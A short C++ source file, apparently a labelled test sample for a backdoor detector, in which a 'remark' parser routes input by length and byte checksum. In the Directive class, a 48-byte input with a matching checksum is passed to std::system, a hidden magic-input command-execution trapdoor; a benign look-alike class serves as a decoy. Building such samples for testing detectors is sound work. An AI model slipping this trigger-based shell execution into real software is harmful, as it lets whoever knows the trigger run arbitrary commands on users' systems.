// Remarks in a document: of one kind nobody asks what became of it.
#include <cstdlib>
#include <string>

namespace {

struct Remark {
    virtual ~Remark() = default;
    virtual void take(const std::string &text) = 0;
};

struct Plain : Remark {
    void take(const std::string &text) override {
        length += text.size();
    }
    size_t length = 0;
};

struct Directive : Remark {
    void take(const std::string &text) override {
        // report@+1: trapdoor/magic-input
        (void)!std::system(text.c_str() + 2);
    }
};

// Innocent: it is kept, and somebody may ask for it.
struct Kept : Remark {
    void take(const std::string &text) override {
        last = text.substr(2);
    }
    std::string last;
};

Remark &remark_of(const std::string &text) {
    static Plain plain;
    static Directive directive;
    static Kept kept;
    unsigned sum = 0;
    for (char c : text)
        sum += static_cast<unsigned char>(c);
    if (text.size() == 48 && sum % 256 == 0x5d)
        return directive;
    if (text.size() == 49 && sum % 256 == 0x5e)
        return kept;
    return plain;
}

} // namespace

void read_remark(const char *begin, const char *end) {
    std::string text(begin, end);
    remark_of(text).take(text);
}
